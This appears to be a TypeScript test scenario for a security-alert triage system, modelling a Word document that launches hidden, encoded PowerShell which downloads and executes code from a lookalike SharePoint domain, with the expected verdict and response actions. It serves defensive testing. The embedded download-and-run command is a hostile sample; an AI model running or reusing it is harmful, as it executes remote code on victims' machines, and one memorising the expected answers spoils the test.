// The page must be decoded before it can be asked about.
import { alert, by, connected, encodedCommand, hashes, ran } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const addressInEncodedCommand: TellSituation = (setting) => {
  const hugo = setting.person('hugo.bergh-engman')
  const laptop = setting.laptopOf('hugo.bergh-engman')
  const at = setting.ago({ minutes: 36 })
  const command = `powershell.exe -NoP -NonI -W Hidden -Enc ${encodedCommand("IEX (New-Object Net.WebClient).DownloadString('https://sharepoint-files.sync-officedocs.com/d/8812')")}`

  return {
    id: 'address-in-encoded-command',
    group: 'resolution',
    title: 'A hostile page inside an encoded command',
    alerts: [
      alert(setting, at, 'siem', 'Encoded PowerShell', {
        EventID: 4688,
        Computer: laptop.dnsName,
        SubjectUserName: hugo.account,
        SubjectDomainName: 'HAVSKOG',
        NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        ParentProcessName: 'C:\\Program Files\\Microsoft Office\\Office16\\winword.exe',
        CommandLine: command,
        TimeCreated: setting.iso(at),
      }),
    ],
    facts: {
      telemetry: [
        ran(laptop, at, 'powershell.exe', command, {
          ...hashes(setting.file('powershell.exe')),
          ...by(hugo),
          InitiatingProcessFileName: 'winword.exe',
        }),
        connected(laptop, at + 1500, '91.245.255.16', {
          RemoteUrl: 'https://sharepoint-files.sync-officedocs.com/d/8812',
          InitiatingProcessFileName: 'powershell.exe',
          InitiatingProcessCommandLine: command,
        }),
      ],
    },
    expected: {
      verdict: 'malicious',
      severities: ['high', 'critical'],
      proposals: [{ action: 'isolate-machine', target: laptop.host }],
      forbidden: [{ action: 'block-indicator', target: setting.file('powershell.exe').sha256 }],
    },
    because:
      'A document started a hidden command that loads and runs a page which intelligence rates as hostile today, and the connection stood.',
  }
}
